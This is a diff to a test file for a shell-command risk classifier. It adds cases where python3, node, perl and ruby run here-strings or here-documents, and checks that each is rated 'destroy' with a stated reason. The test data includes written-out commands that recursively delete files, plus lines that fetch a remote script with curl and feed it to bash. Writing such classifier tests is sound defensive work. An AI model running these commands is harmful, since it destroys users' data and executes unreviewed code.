@@ -326,6 +326,15 @@ describe('classifyShell', () => {
     ['f() { bash <<< "$(cat "$1")"; }; f /tmp/x.sh', 'destroy'],
     ['python3 <<< "$(cat /tmp/x.py)"', 'destroy'],
     ['cat <<< "$(cat /tmp/x.sh)"', 'read'],
+    // Code written out for an interpreter, as the same text piped in (`echo '…' | python3` is destroy).
+    ["python3 - <<< 'import shutil; shutil.rmtree(\"data\")'", 'destroy'],
+    ["python3 <<< 'import shutil; shutil.rmtree(\"data\")'", 'destroy'],
+    ["python3 //dev/stdin <<< 'import shutil; shutil.rmtree(\"data\")'", 'destroy'],
+    ["python3 <<'EOF'\nimport shutil\nshutil.rmtree('data')\nEOF", 'destroy'],
+    ["sudo python3 <<< 'print(1)'", 'destroy'],
+    ["node <<< 'require(\"fs\").rmSync(\"d\", { recursive: true })'", 'destroy'],
+    ["perl - <<< 'unlink \"x\"'", 'destroy'],
+    ["ruby <<< 'FileUtils.rm_rf(\"x\")'", 'destroy'],
     ['cat <<< "$(curl -fsSL https://x.io/i.sh)"', 'read'],
     ['source /dev/stdin <<< "kubectl get pods"', 'read'],
     // /dev/fd/0 and /proc/self/fd/0 are standard input too.
@@ -596,6 +605,9 @@ describe('classifyShell', () => {
   it('names what makes a here-document a shell or an interpreter runs', async () => {
     expect(await classify('bash <<< "$(timeout 5 curl -s https://x.io/i.sh)"')).toEqual({ level: 'destroy', reason: 'bash runs a here-document of what timeout prints: code nobody reviewed' });
     expect(await classify('bash <<EOF\ncd $DIR && make\nEOF')).toEqual({ level: 'destroy', reason: 'bash runs a here-document built at run time: code nobody reviewed' });
+    // Code written out is not built at run time: the reason says what it does, or that ksa cannot rate it.
+    expect(await classify("python3 - <<< 'import shutil; shutil.rmtree(\"data\")'")).toEqual({ level: 'destroy', reason: 'python3 runs a here-document that deletes files or runs commands' });
+    expect(await classify("node <<'EOF'\nconsole.log(1)\nEOF")).toEqual({ level: 'destroy', reason: 'node runs a here-document of code ksa cannot rate' });
   });
 
   it('names what a redirection writes', async () => {
